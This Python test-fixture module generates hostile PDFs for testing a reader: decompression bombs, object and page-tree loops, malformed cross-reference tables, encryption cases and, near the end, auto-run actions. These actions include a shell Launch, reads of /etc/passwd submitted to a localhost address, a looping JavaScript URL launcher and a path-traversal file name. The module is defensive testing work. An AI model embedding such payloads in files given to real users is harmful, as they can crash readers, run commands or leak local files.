"""PDF files that are meant to hang, crash, exhaust or deceive who reads them. See tests/hostile/make.py."""

import hashlib
import random
import zlib
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path

from tests.hostile.bombs import MEBIBYTE, deflated
from tests.hostile.expected import Expected, Hostile

LETTER = Path(__file__).parents[2] / "samples" / "en" / "letter.txt"
_CATALOG, _PAGES, _FONT = 1, 2, 3


@dataclass
class Pdf:
    """A PDF file in the making: objects by number, each as it stands between ``obj`` and ``endobj``."""

    objects: dict[int, bytes] = field(default_factory=dict)
    root: bytes = b"/Root 1 0 R"
    trailer: bytes = b""
    version: bytes = b"1.7"

    def add(self, body: bytes) -> int:
        """Add an object; its number."""
        number = max(self.objects, default=0) + 1
        self.objects[number] = body
        return number

    def add_stream(self, data: bytes, entries: bytes = b"", *, length: int | None = None) -> int:
        """Add a stream; its number."""
        return self.add(stream(data, entries, length=length))

    def file(self, *, xref: bool = True) -> bytes:
        """The file, with a cross-reference table unless ``xref`` is False."""
        out = bytearray(b"%PDF-" + self.version + b"\n%\xe2\xe3\xcf\xd3\n")
        offsets = {}
        for number, body in self.objects.items():
            offsets[number] = len(out)
            out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
        if not xref:
            return bytes(out)
        at = len(out)
        size = max(offsets) + 1
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 00000 f \n"
        out += b"trailer\n<< /Size %d %s %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, self.root, self.trailer, at)
        return bytes(out)


def stream(data: bytes, entries: bytes = b"", *, length: int | None = None) -> bytes:
    """A stream object, whose Length may lie."""
    return b"<< /Length %d %s >>\nstream\n" % (len(data) if length is None else length, entries) + data + b"\nendstream"


def shown(lines: Iterable[str]) -> bytes:
    """The content of a page: lines of Courier, where a typewriter would set them."""
    out = [b"BT /F1 10 Tf 12 TL 70 790 Td"]
    for line in lines:
        escaped = line.encode("cp1252").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
        out.append(b"(" + escaped + b") Tj T*" if line.strip() else b"T*")
    return b"\n".join([*out, b"ET"])


@cache
def letter_pages() -> tuple[bytes, ...]:
    """The content of each page of a letter that conforms."""
    return tuple(shown(page.strip("\n").split("\n")) for page in LETTER.read_text(encoding="utf-8").split("\f"))


def document(
    pages: Sequence[bytes] | None = None,
    *,
    page: bytes = b"",
    media: bytes = b"/MediaBox [0 0 595 842]",
    resources: bytes = b"",
    catalog: bytes = b"",
) -> Pdf:
    """A well-formed PDF of the given contents (the letter, if none), with more entries for each page and the catalogue."""
    pdf = Pdf()
    pdf.add(b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog)
    pdf.add(b"")
    pdf.add(b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier /Encoding /WinAnsiEncoding >>")
    kids = []
    for content in letter_pages() if pages is None else pages:
        body = pdf.add_stream(content)
        kids.append(
            pdf.add(
                b"<< /Type /Page /Parent 2 0 R %s /Resources << /Font << /F1 3 0 R >> %s >> /Contents %d 0 R %s >>"
                % (media, resources, body, page)
            )
        )
    pdf.objects[_PAGES] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (
        b" ".join(b"%d 0 R" % kid for kid in kids),
        len(kids),
    )
    return pdf


def clean() -> bytes:
    """The letter itself, with nothing wrong."""
    return document().file()


def hostile() -> list[Hostile]:
    """Every hostile PDF, in a fixed order."""
    return [Hostile(f"{name}.pdf", make, expected) for name, make, expected in _all()]


def _all() -> Iterable[tuple[str, Callable[[], bytes], Expected]]:
    for name, (make, expected) in _MADE.items():
        yield name, make, expected
    for percent in (1, 5, 10, 25, 40, 50, 60, 75, 90, 95, 99):
        yield f"truncated-at-{percent}-per-cent", lambda percent=percent: clean()[: len(clean()) * percent // 100], "honest"
    for seed in range(12):
        yield f"bits-flipped-{seed}", lambda seed=seed: flipped(clean(), seed), "honest"


def flipped(data: bytes, seed: int, part: int = 500) -> bytes:
    """``data`` with one bit in so many bytes turned over, the first 16 bytes excepted."""
    dice = random.Random(seed)
    out = bytearray(data)
    for _ in range(max(len(data) // part, 1)):
        out[dice.randrange(16, len(out))] ^= 1 << dice.randrange(8)
    return bytes(out)


_MADE: dict[str, tuple[Callable[[], bytes], Expected]] = {}


def _made(expected: Expected) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Keep a function that makes a file, under its name, with what must come of the file."""

    def keep(make: Callable[[], bytes]) -> Callable[[], bytes]:
        _MADE[make.__name__.replace("_", "-")] = (make, expected)
        return make

    return keep


# Bombs


@_made("honest")
def bomb_flate_content() -> bytes:
    pdf = document()
    pdf.objects[4] = stream(deflated(b" " * MEBIBYTE, 2048), b"/Filter /FlateDecode")
    return pdf.file()


@_made("honest")
def bomb_flate_twice() -> bytes:
    inner = deflated(bytes(MEBIBYTE), 1024)
    pdf = document()
    pdf.objects[4] = stream(zlib.compress(inner, 9), b"/Filter [/FlateDecode /FlateDecode]")
    return pdf.file()


@_made("honest")
def bomb_of_operators() -> bytes:
    pdf = document()
    pdf.objects[4] = stream(deflated(b"q BT ET Q " * 100_000, 300), b"/Filter /FlateDecode")
    return pdf.file()


@_made("honest")
def bomb_of_letters() -> bytes:
    pdf = document()
    unit = b"BT /F1 10 Tf 70 700 Td (%s) Tj ET\n" % (b"A" * 100)
    pdf.objects[4] = stream(deflated(unit * 7_000, 60), b"/Filter /FlateDecode")
    return pdf.file()


@_made("honest")
def bomb_run_length() -> bytes:
    pdf = document()
    packed = zlib.compress(b"\x81 " * (8 * MEBIBYTE), 9)
    pdf.objects[4] = stream(packed, b"/Filter [/FlateDecode /RunLengthDecode]")
    return pdf.file()


@_made("honest")
def bomb_thousand_filters() -> bytes:
    pdf = document()
    pdf.objects[4] = stream(b"00" * 4096, b"/Filter [%s]" % (b"/ASCIIHexDecode " * 1000))
    return pdf.file()


@_made("honest")
def bomb_predictor() -> bytes:
    pdf = document()
    parms = b"/DecodeParms << /Predictor 15 /Colors 2147483647 /BitsPerComponent 32 /Columns 2147483647 >>"
    pdf.objects[4] = stream(zlib.compress(b"x" * 1000), b"/Filter /FlateDecode " + parms)
    return pdf.file()


@_made("honest")
def bomb_image() -> bytes:
    pdf = document([b"q 500 0 0 500 50 50 cm /I Do Q", *letter_pages()], resources=b"/XObject << /I 20 0 R >>")
    entries = b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 16 "
    pdf.objects[20] = stream(deflated(bytes(MEBIBYTE), 1024), entries + b"/Filter /FlateDecode")
    return pdf.file()


@_made("honest")
def bomb_character_map() -> bytes:
    ranges = b"".join(b"<%04x> <%04x> <%s>\n" % (n, 0xFFFF, b"0041" * 128) for n in range(0, 0xFFFF, 16))
    pdf = document()
    pdf.objects[20] = stream(
        zlib.compress(b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n" + b"100 beginbfrange\n" + ranges * 20)
        + b"",
        b"/Filter /FlateDecode",
    )
    pdf.objects[_FONT] = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /ToUnicode 20 0 R /DescendantFonts ["
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) "
        b"/Supplement 0 >> >>] >>"
    )
    return pdf.file()


@_made("honest")
def bomb_forms_of_forms() -> bytes:
    """Each of 12 forms draws the next one ten times: 10^12 drawings of one word."""
    pdf = document([b"/X0 Do", *letter_pages()], resources=b"/XObject << /X0 30 0 R >>")
    for level in range(12):
        entries = (
            b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /Font << /F1 3 0 R >> /XObject << /X %d 0 R >> >>"
        )
        pdf.objects[30 + level] = stream(b"/X Do " * 10, entries % (31 + level))
    entries = b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /Font << /F1 3 0 R >> >>"
    pdf.objects[42] = stream(shown(["CD/1697"]), entries)
    return pdf.file()


# Loops


@_made("honest")
def loop_form_draws_itself() -> bytes:
    pdf = document([b"/X Do", *letter_pages()], resources=b"/XObject << /X 30 0 R >>")
    entries = b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject << /X 30 0 R >> >>"
    pdf.objects[30] = stream(b"/X Do /X Do", entries)
    return pdf.file()


@_made("honest")
def loop_forms_draw_each_other() -> bytes:
    pdf = document([b"/X Do", *letter_pages()], resources=b"/XObject << /X 30 0 R >>")
    entries = b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject << /X %d 0 R >> >>"
    pdf.objects[30] = stream(b"/X Do /X Do", entries % 31)
    pdf.objects[31] = stream(b"/X Do /X Do", entries % 30)
    return pdf.file()


@_made("honest")
def loop_page_tree() -> bytes:
    pdf = document()
    pdf.objects[_PAGES] = b"<< /Type /Pages /Kids [2 0 R 5 0 R 2 0 R] /Count 3 >>"
    return pdf.file()


@_made("honest")
def loop_page_tree_of_two() -> bytes:
    pdf = document()
    pdf.objects[20] = b"<< /Type /Pages /Parent 2 0 R /Kids [21 0 R] /Count 1000 >>"
    pdf.objects[21] = b"<< /Type /Pages /Parent 20 0 R /Kids [20 0 R 20 0 R] /Count 1000 >>"
    pdf.objects[_PAGES] = b"<< /Type /Pages /Kids [20 0 R] /Count 1000 >>"
    return pdf.file()


@_made("honest")
def loop_xref() -> bytes:
    pdf = document()
    at = pdf.file().rindex(b"xref\n0 ")
    pdf.trailer = b"/Prev %d" % at
    return pdf.file()


@_made("honest")
def loop_xref_of_two() -> bytes:
    data = clean()
    first = data.rindex(b"xref\n0 ")
    second = len(data) + 20
    data = data.replace(b"trailer\n<< ", b"trailer\n<< /Prev %d " % second)
    second = len(data)
    data = clean().replace(b"trailer\n<< ", b"trailer\n<< /Prev %d " % second)
    return data + b"xref\n0 0\ntrailer\n<< /Size 10 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (first, second)


@_made("honest")
def loop_xref_stream() -> bytes:
    data = document().file(xref=False)
    at = len(data)
    entries = b"/Type /XRef /Size 40 /W [1 4 1] /Index [0 1] /Root 1 0 R /Prev %d /XRefStm %d" % (at, at)
    return data + b"30 0 obj\n" + stream(bytes(6), entries) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % at


@_made("honest")
def loop_outline() -> bytes:
    pdf = document(catalog=b"/Outlines 30 0 R /PageMode /UseOutlines")
    pdf.objects[30] = b"<< /Type /Outlines /First 31 0 R /Last 31 0 R /Count 2147483647 >>"
    pdf.objects[31] = b"<< /Title (x) /Parent 30 0 R /Next 31 0 R /Prev 31 0 R /First 30 0 R /Last 30 0 R /Dest [5 0 R /Fit] >>"
    return pdf.file()


@_made("honest")
def loop_names() -> bytes:
    pdf = document(catalog=b"/Names << /Dests 30 0 R /EmbeddedFiles 30 0 R >> /PageLabels 31 0 R")
    pdf.objects[30] = b"<< /Kids [30 0 R 30 0 R] /Limits [(a) (z)] >>"
    pdf.objects[31] = b"<< /Kids [31 0 R] /Nums [0 31 0 R] >>"
    return pdf.file()


@_made("honest")
def loop_structure() -> bytes:
    pdf = document(catalog=b"/MarkInfo << /Marked true >> /StructTreeRoot 30 0 R")
    pdf.objects[30] = b"<< /Type /StructTreeRoot /K 31 0 R /ParentTree 30 0 R /RoleMap << /P /P >> >>"
    pdf.objects[31] = b"<< /Type /StructElem /S /P /P 31 0 R /K [31 0 R 30 0 R] >>"
    return pdf.file()


@_made("honest")
def loop_annotations() -> bytes:
    pdf = document(page=b"/Annots 30 0 R")
    pdf.objects[30] = b"[31 0 R 31 0 R 30 0 R]"
    pdf.objects[31] = (
        b"<< /Type /Annot /Subtype /Popup /Rect [0 0 9 9] /Parent 31 0 R /Popup 31 0 R /IRT 31 0 R /AP << /N 31 0 R >> >>"
    )
    return pdf.file()


@_made("honest")
def loop_form_fields() -> bytes:
    pdf = document(catalog=b"/AcroForm << /Fields [30 0 R] /CO [30 0 R] /XFA [(a) 30 0 R] >>")
    pdf.objects[30] = b"<< /FT /Tx /T (x) /Parent 30 0 R /Kids [30 0 R] >>"
    return pdf.file()


@_made("honest")
def loop_font() -> bytes:
    pdf = document()
    pdf.objects[_FONT] = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding 3 0 R /DescendantFonts [3 0 R] /ToUnicode 3 0 R >>"
    )
    return pdf.file()


@_made("honest")
def loop_type_3_font() -> bytes:
    pdf = document()
    pdf.objects[_FONT] = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 0 /LastChar 255 "
        b"/Widths [%s] /Encoding << /Differences [0 %s] >> /CharProcs << /a 30 0 R >> /Resources << /Font << /F1 3 0 R >> >> >>"
        % (b"1 " * 256, b"/a " * 256)
    )
    pdf.objects[30] = stream(b"1 0 d0 BT /F1 1 Tf (aaa) Tj ET")
    return pdf.file()


@_made("honest")
def loop_character_map() -> bytes:
    pdf = document()
    pdf.objects[_FONT] = b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier /ToUnicode 30 0 R >>"
    pdf.objects[30] = stream(b"begincmap /X usecmap endcmap", b"/Type /CMap /CMapName /X /UseCMap 30 0 R")
    return pdf.file()


@_made("honest")
def loop_soft_mask_and_pattern() -> bytes:
    resources = b"/ExtGState << /G 30 0 R >> /Pattern << /P 31 0 R >> /Shading << /S 32 0 R >>"
    pdf = document([b"/G gs /Pattern cs /P scn 0 0 600 800 re f /S sh", *letter_pages()], resources=resources)
    pdf.objects[30] = b"<< /Type /ExtGState /SMask << /S /Luminosity /G 31 0 R >> >>"
    entries = (
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 /Resources "
    )
    pdf.objects[31] = stream(b"/G gs /Pattern cs /P scn 0 0 1 1 re f", entries + b"<< %s >>" % resources)
    pdf.objects[32] = b"<< /ShadingType 1 /ColorSpace [/Pattern 32 0 R] /Function 32 0 R >>"
    return pdf.file()


@_made("honest")
def loop_length() -> bytes:
    """A stream whose length is the stream."""
    pdf = document()
    pdf.objects[4] = b"<< /Length 4 0 R >>\nstream\n" + letter_pages()[0] + b"\nendstream"
    return pdf.file()


@_made("honest")
def loop_references() -> bytes:
    pdf = document()
    pdf.objects[4] = b"30 0 R"
    pdf.objects[30] = b"31 0 R"
    pdf.objects[31] = b"30 0 R"
    return pdf.file()


@_made("honest")
def loop_page_inherits_from_itself() -> bytes:
    pdf = document()
    pdf.objects[5] = b"<< /Type /Page /Parent 5 0 R /Contents 4 0 R >>"
    return pdf.file()


@_made("honest")
def loop_object_stream() -> bytes:
    """A stream of objects that says it is in itself, and that it continues itself."""
    data = bytearray(b"%PDF-1.7\n")
    table = {0: (0, 0, 255)}
    pdf = document()
    for number, body in pdf.objects.items():
        table[number] = (1, len(data), 0)
        data += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table[30] = (2, 30, 0)
    table[1] = (2, 30, 1)
    inside = b"30 0 1 3 30 0 R << /Type /Catalog /Pages 2 0 R >>"
    data += b"30 0 obj\n" + stream(inside, b"/Type /ObjStm /N 2 /First 9 /Extends 30 0 R") + b"\nendobj\n"
    at = len(data)
    table[31] = (1, at, 0)
    rows = b"".join(
        bytes([table.get(n, (0, 0, 0))[0]])
        + table.get(n, (0, 0, 0))[1].to_bytes(4, "big")
        + bytes([table.get(n, (0, 0, 0))[2]])
        for n in range(32)
    )
    data += b"31 0 obj\n" + stream(rows, b"/Type /XRef /Size 32 /W [1 4 1] /Root 1 0 R") + b"\nendobj\n"
    return bytes(data) + b"startxref\n%d\n%%%%EOF\n" % at


# Numbers


@_made("problem")
def pages_20_000() -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 3 0 R >> >> >>"
    pdf = document(letter_pages()[:1])
    kids = []
    for number in range(20_000):
        pdf.objects[10 + number] = page
        kids.append(b"%d 0 R" % (10 + number))
    pdf.objects[_PAGES] = b"<< /Type /Pages /Kids [%s] /Count 20000 >>" % b" ".join(kids)
    return pdf.file()


@_made("honest")
def pages_said_to_be_two_thousand_million() -> bytes:
    pdf = document()
    pdf.objects[_PAGES] = pdf.objects[_PAGES].replace(b"/Count 3", b"/Count 2147483647")
    return pdf.file()


@_made("honest")
def pages_said_to_be_fewer_than_none() -> bytes:
    pdf = document()
    pdf.objects[_PAGES] = pdf.objects[_PAGES].replace(b"/Count 3", b"/Count -2147483648")
    return pdf.file()


@_made("honest")
def pages_said_to_be_one() -> bytes:
    pdf = document()
    pdf.objects[_PAGES] = pdf.objects[_PAGES].replace(b"/Count 3", b"/Count 1")
    return pdf.file()


@_made("honest")
def pages_all_the_same() -> bytes:
    pdf = document()
    pdf.objects[_PAGES] = b"<< /Type /Pages /Kids [%s] /Count 1000000 >>" % (b"5 0 R " * 1_000_000)
    return pdf.file()


@_made("honest")
def pages_ten_thousand_levels_down() -> bytes:
    pdf = document()
    for level in range(10_000):
        pdf.objects[20 + level] = b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (19 + level, 21 + level)
    pdf.objects[10_020] = pdf.objects[5]
    pdf.objects[_PAGES] = b"<< /Type /Pages /Kids [20 0 R] /Count 1 >>"
    return pdf.file()


@_made("honest")
def pages_none() -> bytes:
    pdf = document()
    pdf.objects[_PAGES] = b"<< /Type /Pages /Kids [] /Count 0 >>"
    return pdf.file()


@_made("honest")
def pages_that_are_not() -> bytes:
    pdf = document()
    pdf.objects[_PAGES] = b"<< /Type /Pages /Kids [42 (x) null /Name 3 0 R 99 0 R 5 0 R] /Count 7 >>"
    return pdf.file()


@_made("no-pass")
def pages_and_one_that_is_missing() -> bytes:
    pdf = document()
    pdf.objects[_PAGES] = b"<< /Type /Pages /Kids [5 0 R 7 0 R 9 0 R 99 0 R] /Count 4 >>"
    return pdf.file()


@_made("no-pass")
def pages_and_one_that_is_a_picture() -> bytes:
    pdf = document([*letter_pages(), b"q 595 0 0 842 0 0 cm /I Do Q"], resources=b"/XObject << /I 20 0 R >>")
    entries = b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8"
    pdf.objects[20] = stream(b"\x80", entries)
    return pdf.file()


@_made("problem")
def catalogue_is_a_number() -> bytes:
    pdf = document()
    pdf.objects[_CATALOG] = b"42"
    return pdf.file()


def _media(box: bytes) -> bytes:
    return document(media=b"/MediaBox [%s]" % box, page=b"/CropBox [%s] /UserUnit 1000000000 /Rotate 45" % box).file()


@_made("honest")
def box_huge() -> bytes:
    return _media(b"-1e30 -1e30 1e30 1e30")


@_made("honest")
def box_beyond_numbers() -> bytes:
    return _media(b"0 0 %s %s" % (b"9" * 400, b"9" * 400))


@_made("honest")
def box_not_numbers() -> bytes:
    return _media(b"NaN nan INF -inf")


@_made("honest")
def box_negative() -> bytes:
    return _media(b"595 842 -595 -842")


@_made("honest")
def box_empty() -> bytes:
    return _media(b"0 0 0 0")


@_made("honest")
def box_of_one_number() -> bytes:
    return _media(b"595")


@_made("honest")
def box_missing() -> bytes:
    return document(media=b"").file()


@_made("honest")
def numbers_in_content() -> bytes:
    text = b"BT /F1 1e38 Tf 1e38 0 0 1e38 1e38 -1e38 Tm (CD/1697) Tj /F1 0 Tf (x) Tj /F1 -10 Tf nan 0 0 nan 0 0 Tm (y) Tj ET "
    return document([text + b"%s 0 0 1 0 0 cm " % (b"9" * 500) + letter_pages()[0], *letter_pages()[1:]]).file()


# Depth and length


@_made("honest")
def deep_arrays() -> bytes:
    pdf = document()
    pdf.objects[20] = b"[" * 1_000_000 + b"]" * 1_000_000
    pdf.objects[5] = pdf.objects[5].replace(b"/Type /Page", b"/Type /Page /Annots 20 0 R /X " + b"[" * 100_000 + b"]" * 100_000)
    return pdf.file()


@_made("honest")
def deep_dictionaries() -> bytes:
    pdf = document()
    pdf.objects[5] = pdf.objects[5].replace(b"/Type /Page", b"/Type /Page /X " + b"<< /A " * 200_000 + b"1" + b" >>" * 200_000)
    return pdf.file()


@_made("honest")
def deep_content() -> bytes:
    first = b"q " * 500_000 + b"[" * 200_000 + b"<</A" * 100_000 + b" BT " * 100_000
    return document([first, *letter_pages()]).file()


@_made("honest")
def deep_marked_content() -> bytes:
    return document([b"/P << /MCID 0 >> BDC " * 200_000, *letter_pages()]).file()


@_made("honest")
def long_string() -> bytes:
    return document([b"BT /F1 10 Tf 70 700 Td (%s) Tj ET" % (b"A" * 3_000_000), *letter_pages()]).file()


@_made("honest")
def long_string_without_end() -> bytes:
    return document([b"BT /F1 10 Tf 70 700 Td (" + b"(" * 20_000_000, *letter_pages()]).file()


@_made("honest")
def long_name() -> bytes:
    return document([b"/" + b"N" * 10_000_000 + b" gs", *letter_pages()]).file()


@_made("honest")
def long_line_of_letters_in_place() -> bytes:
    """A hundred thousand letters, all at one place of the page."""
    return document([b"BT /F1 10 Tf " + b"1 0 0 1 70 700 Tm (A) Tj " * 100_000 + b"ET", *letter_pages()]).file()


@_made("honest")
def long_contents() -> bytes:
    pdf = document()
    pdf.objects[5] = pdf.objects[5].replace(b"/Contents 4 0 R", b"/Contents [%s]" % (b"4 0 R " * 100_000))
    return pdf.file()


@_made("honest")
def long_metadata() -> bytes:
    pdf = document()
    pdf.trailer = b"/Info << /Title (%s) /Author <%s> >>" % (b"T" * 10_000_000, b"41" * 5_000_000)
    return pdf.file()


@_made("honest")
def inline_image_without_end() -> bytes:
    return document([b"BI /W 60000 /H 60000 /BPC 8 /CS /RGB /F /Fl ID " + b"x" * 100_000, *letter_pages()]).file()


# What is wrong with the file


@_made("honest")
def lengths_too_long() -> bytes:
    pdf = document()
    for number in (4, 6, 8):
        pdf.objects[number] = pdf.objects[number].replace(b"/Length ", b"/Length 9")
    return pdf.file()


@_made("honest")
def lengths_too_short() -> bytes:
    pdf = document()
    for number, content in zip((4, 6, 8), letter_pages(), strict=True):
        pdf.objects[number] = stream(content, length=len(content) // 3)
    return pdf.file()


@_made("honest")
def lengths_negative() -> bytes:
    pdf = document()
    for number, content in zip((4, 6, 8), letter_pages(), strict=True):
        pdf.objects[number] = stream(content, length=-1)
    return pdf.file()


@_made("honest")
def objects_in_a_stream_of_two_thousand_million() -> bytes:
    pdf = document()
    pdf.objects[20] = stream(b"1 0 2 5 ", b"/Type /ObjStm /N 2147483647 /First 2147483647")
    return pdf.file(xref=False) + b"trailer << /Root 1 0 R >>"


@_made("honest")
def xref_missing() -> bytes:
    return document().file(xref=False)


@_made("honest")
def xref_missing_but_for_the_trailer() -> bytes:
    return document().file(xref=False) + b"trailer\n<< /Root 1 0 R /Size 10 >>\nstartxref\n0\n%%EOF\n"


@_made("honest")
def xref_beyond_the_end() -> bytes:
    data = clean()
    return data[: data.rindex(b"startxref")] + b"startxref\n99999999999999999999\n%%EOF\n"


@_made("honest")
def xref_of_two_thousand_million() -> bytes:
    data = clean()
    return data.replace(b"xref\n0 10\n", b"xref\n0 2147483647\n").replace(b"/Size 10", b"/Size 2147483647")


@_made("honest")
def xref_stream_with_huge_widths() -> bytes:
    data = document().file(xref=False)
    entries = b"/Type /XRef /Size 2147483647 /W [2147483647 2147483647 2147483647] /Index [0 2147483647] /Root 1 0 R"
    at = len(data)
    return data + b"30 0 obj\n" + stream(bytes(600), entries) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % at


@_made("honest")
def xref_points_elsewhere() -> bytes:
    data = clean()
    at = data.rindex(b"xref\n0 ")
    rows = data[at:].split(b"\n")
    first, *others = [row for row in rows if row.endswith(b" n ")]
    order = iter([*others, first])
    return data[:at] + b"\n".join(next(order) if row.endswith(b" n ") else row for row in rows)


@_made("problem")
def empty() -> bytes:
    return b""


@_made("problem")
def only_a_header() -> bytes:
    return b"%PDF-1.7\n"


@_made("problem")
def only_a_header_and_an_end() -> bytes:
    return b"%PDF-1.7\nstartxref\n0\n%%EOF\n"


@_made("problem")
def only_nulls() -> bytes:
    return b"%PDF-1.7\n" + bytes(1_000_000)


@_made("problem")
def only_noise() -> bytes:
    return b"%PDF-1.7\n" + random.Random(1).randbytes(1_000_000)


@_made("honest")
def junk_before() -> bytes:
    return b"\r\nContent-Type: application/pdf\r\n\r\n" + clean()


@_made("honest")
def junk_before_of_64_kib() -> bytes:
    return b"<html>" + b"x" * 65_536 + clean()


@_made("honest")
def junk_after_of_5_mb() -> bytes:
    return clean() + random.Random(2).randbytes(5_000_000)


@_made("honest")
def two_in_one() -> bytes:
    return document([shown(["CD/1", "Another document"])]).file() + clean()


@_made("honest")
def version_of_no_reader() -> bytes:
    pdf = document()
    pdf.version = b"99.99"
    return pdf.file()


@_made("honest")
def linearised_falsely() -> bytes:
    lies = b"<< /Linearized 1 /L 4294967295 /H [2147483647 2147483647] /O 99 /E 2147483647 /N 2147483647 /T 2147483647 >>"
    data = clean()
    return data[:15] + b"40 0 obj\n" + lies + b"\nendobj\n" + data[15:]


@_made("honest")
def control_characters() -> bytes:
    return document([b"BT /F1 10 Tf 70 700 Td <%s> Tj ET" % (bytes(range(32)).hex().encode() * 100), *letter_pages()]).file()


@_made("honest")
def unknown_filter() -> bytes:
    pdf = document()
    pdf.objects[4] = stream(letter_pages()[0], b"/Filter /JBIG2Decode /DecodeParms << /JBIG2Globals 4 0 R >>")
    return pdf.file()


# Encryption


_PAD = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")


def _rc4(key: bytes, data: bytes) -> bytes:
    box = list(range(256))
    j = 0
    for i in range(256):
        j = (j + box[i] + key[i % len(key)]) % 256
        box[i], box[j] = box[j], box[i]
    i = j = 0
    out = bytearray()
    for byte in data:
        i = (i + 1) % 256
        j = (j + box[i]) % 256
        box[i], box[j] = box[j], box[i]
        out.append(byte ^ box[(box[i] + box[j]) % 256])
    return bytes(out)


def _encrypted(user: bytes, owner: bytes) -> bytes:
    """The letter under the standard handler of PDF 1.1: RC4 with 40 bits."""
    pdf = document()
    file_id = hashlib.md5(b"letter", usedforsecurity=False).digest()
    rights = -44
    owner_key = hashlib.md5((owner + _PAD)[:32], usedforsecurity=False).digest()[:5]
    o = _rc4(owner_key, (user + _PAD)[:32])
    seed = (user + _PAD)[:32] + o + rights.to_bytes(4, "little", signed=True) + file_id
    key = hashlib.md5(seed, usedforsecurity=False).digest()[:5]
    for number, content in zip((4, 6, 8), letter_pages(), strict=True):
        salted = hashlib.md5(key + number.to_bytes(3, "little") + b"\0\0", usedforsecurity=False).digest()[:10]
        pdf.objects[number] = stream(_rc4(salted, content))
    pdf.trailer = b"/ID [<%s> <%s>] /Encrypt << /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P %d >>" % (
        *(file_id.hex().encode(),) * 2,
        o.hex().encode(),
        _rc4(key, _PAD).hex().encode(),
        rights,
    )
    return pdf.file()


@_made("problem")
def encrypted_with_a_user_password() -> bytes:
    return _encrypted(b"secret", b"owner")


@_made("read")
def encrypted_for_the_owner_only() -> bytes:
    return _encrypted(b"", b"owner")


@_made("problem")
def encrypted_by_an_unknown_handler() -> bytes:
    pdf = document()
    pdf.trailer = b"/ID [<00> <00>] /Encrypt << /Filter /Acme /V 9 /R 99 /O (x) /U (y) /P 0 >>"
    return pdf.file()


@_made("honest")
def encrypted_by_itself() -> bytes:
    pdf = document()
    pdf.objects[20] = b"<< /Filter /Standard /V 2 /R 3 /Length 20 0 R /O 20 0 R /U 20 0 R /P 20 0 R >>"
    pdf.trailer = b"/ID [20 0 R 20 0 R] /Encrypt 20 0 R"
    return pdf.file()


# What a reader must not do


def _with_action(action: bytes) -> bytes:
    return document(
        catalog=b"/OpenAction %s /AA << /WC %s /DC %s >>" % (action, action, action), page=b"/AA << /O %s >>" % action
    ).file()


@_made("read")
def action_javascript() -> bytes:
    script = b"(while \\(true\\) app.launchURL\\('http://127.0.0.1:9/'\\); this.submitForm\\('http://127.0.0.1:9/'\\))"
    return _with_action(b"<< /S /JavaScript /JS %s >>" % script)


@_made("read")
def action_launch() -> bytes:
    return _with_action(b"<< /S /Launch /F (/bin/sh) /Unix << /F (/bin/sh) /P (-c 'touch launched') >> >>")


@_made("read")
def action_uri() -> bytes:
    return _with_action(b"<< /S /URI /URI (http://127.0.0.1:9/) >>")


@_made("read")
def action_go_to_remote() -> bytes:
    return _with_action(b"<< /S /GoToR /F (file:///etc/passwd) /D [0 /Fit] >>")


@_made("read")
def action_import_and_submit() -> bytes:
    return _with_action(b"<< /S /ImportData /F (/etc/passwd) /Next << /S /SubmitForm /F (http://127.0.0.1:9/) >> >>")


@_made("read")
def action_that_follows_itself() -> bytes:
    pdf = document(catalog=b"/OpenAction 30 0 R")
    pdf.objects[30] = b"<< /S /URI /URI (http://127.0.0.1:9/) /Next [30 0 R 30 0 R] >>"
    return pdf.file()


@_made("read")
def embedded_file() -> bytes:
    pdf = document(catalog=b"/Names << /EmbeddedFiles << /Names [(../../x.txt) 30 0 R] >> >>")
    pdf.objects[30] = b"<< /Type /Filespec /F (../../x.txt) /UF (../../x.txt) /EF << /F 31 0 R >> >>"
    pdf.objects[31] = stream(b"harmless", b"/Type /EmbeddedFile")
    return pdf.file()


@_made("honest")
def content_in_another_file() -> bytes:
    pdf = document()
    pdf.objects[4] = stream(b"", b"/F (file:///etc/passwd) /FFilter /FlateDecode")
    return pdf.file()


@_made("honest")
def content_in_another_form() -> bytes:
    pdf = document([b"/X Do"], resources=b"/XObject << /X 30 0 R >>")
    entries = b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Ref << /F (http://127.0.0.1:9/x.pdf) /Page 0 >>"
